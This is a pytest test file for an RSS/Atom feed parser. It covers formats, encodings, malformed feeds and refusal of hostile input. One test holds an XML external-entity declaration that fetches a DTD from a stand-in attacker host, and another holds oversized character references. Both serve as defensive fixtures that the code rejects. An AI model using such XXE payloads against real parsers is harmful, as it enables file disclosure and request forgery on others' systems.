"""parse: formats, bozo documents, non-feeds, encodings, entity refusal, limits."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from monitor.errors import FetchError
from monitor.reader.documents import usable
from monitor.reader.parse import parse_feed, refuse_hostile, repair_utf8
from tests.feedfiles import item, rss

URL = "http://example.org/feed"
ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><id>urn:a</id>
<updated>2026-03-01T10:00:00Z</updated>
<entry><id>urn:a:1</id><title type="html">&lt;b&gt;Shelling&lt;/b&gt; of Kharkiv</title>
<link rel="alternate" href="/k/1"/><updated>2026-03-01T10:00:00+01:00</updated>
<content type="html">&lt;p&gt;Text&lt;/p&gt;</content><author><name>Desk</name></author></entry>
</feed>"""
RDF = b"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>R</title><link>http://r/</link>
<description>d</description></channel><item rdf:about="http://r/1"><title>One</title>
<link>http://r/1</link></item></rdf:RDF>"""


def test_atom_entry_fields():
    """Atom: id, alternate link, HTML title and content kept raw, updated date in UTC, author."""
    (entry,) = parse_feed(ATOM, {}, URL).entries
    assert entry.guid == "urn:a:1" and entry.link == "http://example.org/k/1"
    assert "Shelling" in entry.title and entry.summary == "<p>Text</p>"
    assert entry.published == datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
    assert entry.authors == ("Desk",)


def test_rss1_rdf_feed():
    """RSS 1.0 (RDF) feeds parse too."""
    parsed = parse_feed(RDF, {}, URL)
    assert [e.title for e in parsed.entries] == ["One"] and parsed.is_feed


def test_bozo_feed_with_entries_is_used():
    """A malformed feed that still yields entries is used, with its complaint kept."""
    body = rss(item("Kept & unescaped", guid="1")).replace(b"</channel></rss>", b"")
    parsed = parse_feed(body, {}, URL)
    assert parsed.bozo and [e.title for e in parsed.entries] == ["Kept & unescaped"]
    assert usable(parsed) is None


@pytest.mark.parametrize(
    "body",
    [
        b"<!doctype html><html><head><title>Just a moment...</title></head><body></body></html>",
        b'{"items": []}',
        b"",
        b"\x89PNG\r\n\x1a\n\x00\x00",
    ],
    ids=["html", "json", "empty", "png"],
)
def test_non_feeds_are_not_usable(body: bytes):
    """HTML pages, JSON, empty and binary bodies are not usable feeds."""
    problem = usable(parse_feed(body, {"content-type": "text/html"}, URL))
    assert problem is not None


@pytest.mark.parametrize("content_type", [None, "text/plain", "text/html; charset=utf-8"])
def test_empty_valid_feed_is_usable(content_type: str | None):
    """A well-formed feed with no entries is 'nothing new', whatever its Content-Type."""
    headers = {"Content-Type": content_type} if content_type else {}
    parsed = parse_feed(rss(), headers, URL)
    assert parsed.bozo is None and usable(parsed) is None


def test_every_entry_is_kept():
    """A long feed keeps every entry the size cap let in (none dropped without a word)."""
    body = rss(*(item(f"t{i}", guid=str(i)) for i in range(739)))
    assert len(parse_feed(body, {}, URL).entries) == 739


def test_http_charset_is_honoured():
    """A Latin-1 feed declared by the HTTP header decodes correctly."""
    body = rss(item("Génocide à Srebrenica", guid="1")).replace(b"utf-8", b"iso-8859-1")
    body = body.decode("utf-8").encode("iso-8859-1")
    headers = {"Content-Type": "application/rss+xml; charset=ISO-8859-1"}
    assert parse_feed(body, headers, URL).entries[0].title == "Génocide à Srebrenica"


def test_utf16_feed():
    """A UTF-16 feed with a BOM parses (its NUL bytes are not stripped)."""
    body = rss(item("Génocide", guid="1")).decode().replace("utf-8", "utf-16").encode("utf-16")
    assert parse_feed(body, {}, URL).entries[0].title == "Génocide"


def test_repair_leaves_other_declared_encodings_alone():
    """Documents declaring a non-UTF-8 encoding are left to feedparser."""
    body = b'<?xml version="1.0" encoding="windows-1252"?><rss>\xe9\x00</rss>'
    assert repair_utf8(body, {}) == body
    assert repair_utf8(b"<rss>\xe9\x00</rss>", {}) == "<rss>é</rss>".encode()


@pytest.mark.parametrize(
    "decl",
    [
        b'<!DOCTYPE r [<!ENTITY a "x">]>',
        b'<!DOCTYPE r [<!entity % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    ],
)
def test_entity_declarations_refused(decl: bytes):
    """Any entity declaration, any case, is refused with a clear reason."""
    with pytest.raises(FetchError, match="declares XML entities"):
        refuse_hostile(b'<?xml version="1.0"?>' + decl + b"<rss/>")


def test_content_encoding_header_is_ignored_on_decoded_body():
    """The body arrives decoded: a Content-Encoding header does not confuse the parser."""
    parsed = parse_feed(rss(item("Plain", guid="1")), {"Content-Encoding": "gzip"}, URL)
    assert [e.title for e in parsed.entries] == ["Plain"]


@pytest.mark.parametrize("ref", [b"&#99999999999;", b"&#xFFFFFFFFFFFF;"])
def test_parser_crash_is_a_fetch_error(ref: bytes):
    """A character reference feedparser chokes on is a FetchError (the feed fails), not a crash."""
    body = b'<rss version="2.0"><channel><item><title>' + ref + b"</title></item></channel></rss>"
    with pytest.raises(FetchError, match="parser failed: OverflowError"):
        parse_feed(body, {}, URL)
